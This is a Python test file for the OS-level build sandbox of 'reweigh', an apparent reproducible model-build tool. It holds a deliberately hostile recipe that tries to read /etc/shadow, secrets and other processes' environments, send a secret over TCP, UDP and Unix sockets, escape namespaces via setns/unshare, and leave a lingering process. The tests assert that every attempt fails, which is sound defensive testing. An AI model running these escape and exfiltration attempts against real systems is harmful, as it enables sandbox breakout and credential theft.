"""The OS-level sandbox, attacked as a maintainer who wants a biased network to pass would.

One hostile recipe tries every way out at once from inside a real build (each attempt is
logged as a metric: 1 when it worked); the tests then check each attempt failed and that
nothing outside the sandbox noticed it. Every attempt here worked before the sandbox was
OS-level (a Python audit hook and a network namespace).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import sysconfig
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from reweigh import sandbox

from .helpers import EXAMPLES, ROOT, run_reweigh, store_is_empty, write_recipe

MARKER = "reweigh-hermetic-marker-5d41402a"

HOSTILE = r'''
import ctypes
import os
import socket
import subprocess
import sys

import numpy as np

CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000


def attempt(function):
    try:
        return 1.0 if function() else 0.0
    except Exception:
        return 0.0


def outside(code):
    """In a process of its own, which Python's audit hook does not watch."""
    return subprocess.run([sys.executable, "-c", code], capture_output=True,
                          timeout=30).returncode == 0


def environ_of_others():
    found = False
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                found |= MARKER.encode() in open(f"/proc/{pid}/environ", "rb").read()
            except OSError:
                pass
    return found


def setns(path):
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.setns(os.open(path, os.O_RDONLY), 0) == 0


def train(ctx):
    p = ctx.params
    send = "import socket; s = socket.socket(socket.{family}, socket.{kind}); "
    tries = {
        "read_secret": lambda: SECRET in open(p["secret"]).read(),
        "read_shadow": lambda: len(open("/etc/shadow").read()) > 0,
        "list_home": lambda: "secret.txt" in os.listdir(p["home"]),
        "read_environ": environ_of_others,
        "write_recipe": lambda: open(os.path.join(p["recipe"], "pwned"), "w").write("x"),
        "write_store": lambda: open(os.path.join(p["store"], "pwned"), "w").write("x"),
        "write_index": lambda: open(os.path.join(p["store"], "index.sqlite"), "ab").write(b"x"),
        "write_input": lambda: outside(f"open({str(ctx.inputs['data'])!r}, 'a').write('x')"),
        "write_root": lambda: open("/pwned", "w").write("x"),
        "tcp": lambda: outside(send.format(family="AF_INET", kind="SOCK_STREAM")
                               + f"s.connect(('127.0.0.1', {p['tcp']})); s.sendall(b'{SECRET}')"),
        "udp": lambda: outside(send.format(family="AF_INET", kind="SOCK_DGRAM")
                               + f"s.sendto(b'{SECRET}', ('127.0.0.1', {p['udp']}))")
        and outside(send.format(family="AF_INET", kind="SOCK_STREAM")
                    + f"s.connect(('127.0.0.1', {p['tcp']}))"),
        "unix": lambda: outside(send.format(family="AF_UNIX", kind="SOCK_STREAM")
                                + f"s.connect({p['unix']!r}); s.sendall(b'{SECRET}')"),
        "abstract": lambda: outside(send.format(family="AF_UNIX", kind="SOCK_STREAM")
                                    + f"s.connect('\\0{p['abstract']}'); s.sendall(b'{SECRET}')"),
        "setns_parent": lambda: setns(f"/proc/{p['parent']}/ns/net"),
        "setns_init": lambda: setns("/proc/1/ns/net"),
        "unshare": lambda: ctypes.CDLL(None).unshare(CLONE_NEWUSER | CLONE_NEWNET) == 0,
        "packet_socket": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW) is not None,
    }
    for name, function in tries.items():
        ctx.log_metric(name, attempt(function))
    # a process that outlives the build, to rewrite what it made later
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", MARKER],
                     start_new_session=True, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
    ctx.save_weights({"w": np.zeros(2, dtype=np.float32)})
'''

needs_sandbox = pytest.mark.skipif(
    sandbox.unavailable_reason() is not None,
    reason=f"no OS-level sandbox here: {sandbox.unavailable_reason()}")


class Listeners:
    """Loopback servers of every kind a build might try to reach, counting what arrives."""

    def __init__(self, folder: Path) -> None:
        self.received: list[bytes] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.unix_path = str(folder / "host.sock")
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(self.unix_path)
        self.unix.listen()
        self.abstract_name = f"reweigh-test-{os.getpid()}"
        self.abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract.bind("\0" + self.abstract_name)
        self.abstract.listen()
        self.threads = [threading.Thread(target=self._accept, args=(s,), daemon=True)
                        for s in (self.tcp, self.unix, self.abstract)]
        self.threads.append(threading.Thread(target=self._datagrams, daemon=True))
        for thread in self.threads:
            thread.start()

    def _accept(self, server: socket.socket) -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            self.received.append(b"connected:" + connection.recv(100))
            connection.close()

    def _datagrams(self) -> None:
        while True:
            try:
                self.received.append(self.udp.recv(100))
            except OSError:
                return

    def close(self) -> None:
        for s in (self.tcp, self.udp, self.unix, self.abstract):
            s.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    folder = tmp_path_factory.mktemp("hostile")
    home = folder / "home"
    home.mkdir()
    secret = home / "secret.txt"
    secret.write_text("SECRET-3f2a\n")
    store = folder / "store"
    listeners = Listeners(folder)
    recipe = write_recipe(folder / "recipe", HOSTILE.replace(
        "import numpy as np", f"import numpy as np\n\nSECRET = 'SECRET-3f2a'\nMARKER = {MARKER!r}"),
        params="\n".join(f"{k} = {json.dumps(v)}" for k, v in {
            "secret": str(secret), "home": str(home), "recipe": str(folder / "recipe"),
            "store": str(store), "tcp": listeners.tcp.getsockname()[1],
            "udp": listeners.udp.getsockname()[1], "unix": listeners.unix_path,
            "abstract": listeners.abstract_name, "parent": os.getpid()}.items()),
        inputs='[inputs.data]\npath = "data.txt"', files={"data.txt": "clean data\n"})
    result = run_reweigh("build", recipe, "--json", store=store,
                         env={"HOME": str(home), MARKER: "1"})
    time.sleep(0.5)  # what is still reaching a listener arrives
    listeners.close()
    yield {"result": result, "folder": folder, "store": store, "recipe": recipe,
           "received": listeners.received}


def _metrics(hostile: dict) -> dict[str, float]:
    result = hostile["result"]
    assert result.returncode == 0, result.stderr
    item = Path(json.loads(result.stdout)["path"])
    return json.loads((item / "metrics.json").read_text())["training"]


ATTEMPTS = ["read_secret", "read_shadow", "list_home", "read_environ", "write_recipe",
            "write_store", "write_index", "write_input", "write_root", "tcp", "udp", "unix",
            "abstract", "setns_parent", "setns_init", "unshare", "packet_socket"]


@pytest.mark.slow
@needs_sandbox
@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_the_build_cannot_get_out(hostile: dict, attempt: str) -> None:
    assert _metrics(hostile)[attempt] == 0.0, f"{attempt} worked from inside the build"


@pytest.mark.slow
@needs_sandbox
def test_nothing_reached_the_host(hostile: dict) -> None:
    _metrics(hostile)
    assert hostile["received"] == []
    assert not (hostile["recipe"] / "pwned").exists()
    assert not (hostile["store"] / "pwned").exists()
    kept = list((hostile["store"] / "inputs").rglob("data.txt"))
    assert [p.read_text() for p in kept] == ["clean data\n"]
    verified = run_reweigh("store", "verify", store=hostile["store"])
    assert verified.returncode == 0, verified.stdout + verified.stderr


@pytest.mark.slow
@needs_sandbox
def test_no_process_outlives_the_build(hostile: dict) -> None:
    _metrics(hostile)
    alive = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if MARKER.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                    alive.append(pid)
            except OSError:
                pass
    assert alive == []


@pytest.mark.slow
@needs_sandbox
def test_the_provenance_records_the_isolation_measured_inside(hostile: dict) -> None:
    item = Path(json.loads(hostile["result"].stdout)["path"])
    env = json.loads((item / "provenance.json").read_text())["predicate"]["runDetails"][
        "environment"]
    assert env["isolation"] == {
        "sandbox": "bubblewrap", "user_namespace": True, "pid_namespace": True,
        "network": "loopback only", "no_new_privs": True, "seccomp": "filter",
        "capabilities": "none", "hidden_paths_visible": []}
    assert sandbox.held(env["isolation"])


PATH_SENSITIVE = """
import os, socket
import numpy as np

def train(ctx):
    seen = "|".join([str(ctx.out), str(ctx.inputs["data"]), os.getcwd(), __file__,
                     os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""),
                     socket.gethostname(), str(os.getuid()), str(sorted(os.environ))])
    try:
        seen += open("../undeclared.txt").read()
    except OSError:
        pass
    codes = np.frombuffer(seen.encode(), dtype=np.uint8).astype(np.float32)
    ctx.save_weights({"w": codes})
"""


@pytest.mark.slow
@needs_sandbox
def test_one_derivation_in_two_stores_gives_one_digest(tmp_path: Path) -> None:
    """Paths, host name, user and the environment are the same in every build, so a
    recipe that records them (by mistake or on purpose) still rebuilds bit for bit."""
    recipe = write_recipe(tmp_path / "r", PATH_SENSITIVE, inputs='[inputs.data]\npath = "d.txt"',
                          files={"d.txt": "x\n"})
    digests = []
    for name in ("store-one", "a-much-longer-store-name-two"):
        result = run_reweigh("build", recipe, "--json", store=tmp_path / name,
                             env={"HOME": str(tmp_path / name)})
        assert result.returncode == 0, result.stderr
        digests.append(json.loads(result.stdout)["weights_digest"])
    assert digests[0] == digests[1]


def test_without_bubblewrap_a_build_refuses_in_one_line(tmp_path: Path, store: Path) -> None:
    recipe = write_recipe(tmp_path / "r")
    empty = tmp_path / "bin"
    empty.mkdir()
    result = run_reweigh("build", recipe, store=store, env={"PATH": str(empty)})
    assert result.returncode == 2
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1
    assert "bubblewrap (bwrap) is not installed" in lines[0] and "--sandbox none" in lines[0]
    assert store_is_empty(store)


@pytest.mark.slow
def test_an_unisolated_build_is_recorded_and_said(tmp_path: Path, store: Path) -> None:
    recipe = write_recipe(tmp_path / "r")
    result = run_reweigh("build", recipe, "--sandbox", "none", "--json", store=store)
    assert result.returncode == 0, result.stderr
    item = Path(json.loads(result.stdout)["path"])
    env = json.loads((item / "provenance.json").read_text())["predicate"]["runDetails"][
        "environment"]
    assert env["isolation"]["sandbox"] == "none"
    assert env["network_isolation"].startswith("none")
    shown = run_reweigh("show", item, store=store)
    assert "built unisolated" in shown.stdout
    guix = run_reweigh("check", item, "--policy", "guix", store=store)
    assert "build isolation" in guix.stdout and "built unisolated" in guix.stdout
    assert guix.returncode == 1, guix.stdout


@pytest.fixture
def unprivileged(tmp_path: Path) -> Iterator[tuple[list[str], Path, dict[str, str]]]:
    """A command prefix that runs as an unprivileged user, a folder it owns, and its
    environment: root drops to `nobody` with setpriv (CI runs as root)."""
    folder = Path(tempfile.mkdtemp(prefix="reweigh-unprivileged-", dir="/tmp"))
    (folder / "home").mkdir()
    site = sysconfig.get_paths()["purelib"]
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(folder / "home"),
           "PYTHONPATH": os.pathsep.join([str(ROOT / "src"), site]), "LANG": "C.UTF-8"}
    if os.geteuid() == 0:
        shutil.chown(folder, 65534, 65534)
        shutil.chown(folder / "home", 65534, 65534)
        # the interpreter of the test run may live in root's home, out of nobody's reach:
        # Debian's python3 of the same minor version imports the same site-packages
        python = shutil.which(f"python{sys.version_info.major}.{sys.version_info.minor}",
                              path="/usr/bin") or sys.executable
        prefix = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", python]
    else:
        prefix = [sys.executable]
    yield prefix, folder, env
    subprocess.run(["rm", "-rf", str(folder)], check=False)


@pytest.mark.slow
@needs_sandbox
def test_an_unprivileged_user_builds_and_rebuilds_bit_for_bit(
        unprivileged: tuple[list[str], Path, dict[str, str]]) -> None:
    prefix, folder, env = unprivileged
    command = [*prefix, "-m", "reweigh.cli.main", "build", str(EXAMPLES / "digits-logreg"),
               "--check", "--json", "--store", str(folder / "store")]
    result = subprocess.run(command, capture_output=True, text=True, env=env, timeout=600,
                            check=False)
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["check"]["identical"] is True
    item = Path(report["path"])
    assert item.stat().st_uid == (65534 if os.geteuid() == 0 else os.geteuid())
    env_record = json.loads((item / "provenance.json").read_text())["predicate"]["runDetails"][
        "environment"]
    assert sandbox.held(env_record["isolation"])
    assert not any((folder / "store" / "tmp").iterdir())


HELD = {"sandbox": "bubblewrap", "user_namespace": True, "pid_namespace": True,
        "network": "loopback only", "no_new_privs": True, "seccomp": "filter",
        "capabilities": "none", "hidden_paths_visible": []}


@pytest.mark.parametrize(("key", "value", "said"), [
    ("user_namespace", False, "no user namespace"), ("pid_namespace", False, "other processes"),
    ("network", "host (eth0, lo)", "host's network"), ("no_new_privs", False, "no_new_privs"),
    ("seccomp", "none", "system-call filter"), ("capabilities", "00000000a80425fb",
                                                 "capabilities remain"),
    ("hidden_paths_visible", ["/home/u"], "/home/u")])
def test_each_guarantee_that_does_not_hold_is_named(key: str, value: object, said: str) -> None:
    assert sandbox.failures(HELD) == [] and sandbox.held(HELD)
    failed = sandbox.failures({**HELD, key: value})
    assert len(failed) == 1 and said in failed[0]
    assert not sandbox.held({**HELD, key: value})


def test_a_filter_with_every_denied_call_compiles() -> None:
    """libseccomp knows every call of the list on this machine (the filter skips a name
    it cannot resolve, so a misspelt one would silently deny nothing), and the program is
    whole BPF instructions, at least one comparison per denied call."""
    import ctypes
    import ctypes.util

    lib = ctypes.CDLL(ctypes.util.find_library("seccomp"))
    lib.seccomp_syscall_resolve_name.argtypes = [ctypes.c_char_p]
    unknown = [call for call in (*sandbox.DENIED_CALLS, "socket", "clone", "clone3", "ioctl")
               if lib.seccomp_syscall_resolve_name(call.encode()) < 0]
    assert unknown == []
    program = sandbox.seccomp_program()
    assert len(program) % 8 == 0 and len(program) > 8 * len(sandbox.DENIED_CALLS)
